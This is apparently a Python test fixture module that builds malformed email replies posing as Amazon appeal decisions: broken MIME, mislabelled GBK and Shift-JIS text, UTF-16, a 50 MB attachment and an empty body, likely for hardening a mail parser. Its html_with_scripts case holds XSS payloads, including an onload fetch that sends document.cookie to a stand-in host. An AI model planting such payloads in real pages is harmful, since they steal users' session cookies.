"""Careless and hostile mail "from Amazon": broken MIME, wrong or missing charsets, UTF-16, a
50 MB attachment, HTML with scripts, an empty body."""

from __future__ import annotations

import base64
from email.message import EmailMessage

from tests.mail.messages import AMAZON, NOTICES, message_id

DENIED = (NOTICES / "reply_denied_en.txt").read_text()


def _head(subject: str, content_type: str, extra: str = "") -> bytes:
    return (
        f"From: {AMAZON}\r\nTo: seller@example.cn\r\nSubject: {subject}\r\n"
        f"Message-ID: {message_id()}\r\nMIME-Version: 1.0\r\nContent-Type: {content_type}\r\n"
        f"{extra}\r\n"
    ).encode()


def broken_mime() -> bytes:
    """A multipart whose boundary never closes, a part with broken base64 and an unknown
    transfer encoding."""
    return _head("RE: Your appeal", 'multipart/mixed; boundary="b1"') + (
        b"--b1\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64"
        b"\r\n\r\n" + base64.b64encode(DENIED.encode())[:-7] + b"!!not base64!!\r\n"
        b"--b1\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: x-unknown\r\n\r\n"
        b"<p>We have decided not to reinstate"
    )


def gbk_without_charset() -> bytes:
    text = (NOTICES / "zh_reply_denied.txt").read_text()
    return _head("回复：申诉", "text/plain", "Content-Transfer-Encoding: 8bit\r\n") + text.encode(
        "gbk"
    )


def shift_jis_labelled_ascii() -> bytes:
    text = (NOTICES / "ja_reply_reinstated.txt").read_text()
    return _head("Re: 申し立て", "text/plain; charset=us-ascii") + text.encode("shift_jis")


def utf16() -> bytes:
    msg = EmailMessage()
    msg["From"], msg["Subject"], msg["Message-ID"] = AMAZON, "RE: Your appeal", message_id()
    msg.set_content(DENIED.encode("utf-16"), maintype="text", subtype="plain", cte="base64")
    msg.replace_header("Content-Type", "text/plain; charset=utf-16")
    return msg.as_bytes()


def big_attachment(megabytes: int = 50) -> bytes:
    msg = EmailMessage()
    msg["From"], msg["Subject"], msg["Message-ID"] = AMAZON, "RE: Your appeal", message_id()
    msg.set_content(DENIED)
    msg.add_attachment(
        b"%PDF-1.4\n" + b"\0" * (megabytes * 1024 * 1024),
        maintype="application",
        subtype="pdf",
        filename="evidence.pdf",
    )
    return msg.as_bytes()


def html_with_scripts() -> bytes:
    html = (
        "<html><head><script>alert('stolen')</script></head>"
        "<body onload=\"fetch('https://evil.example/'+document.cookie)\">"
        f"<p>{DENIED}</p><img src=x onerror=alert(1)>"
        '<a href="javascript:alert(2)">Appeal here</a></body></html>'
    )
    return _head("RE: Your appeal", "text/html; charset=utf-8") + html.encode()


def empty_body() -> bytes:
    return _head("RE: Your appeal", "text/plain; charset=utf-8") + b"\r\n   \r\n"


ALL = {
    "broken_mime": broken_mime,
    "gbk_without_charset": gbk_without_charset,
    "shift_jis_labelled_ascii": shift_jis_labelled_ascii,
    "utf16": utf16,
    "big_attachment": big_attachment,
    "html_with_scripts": html_with_scripts,
    "empty_body": empty_body,
}
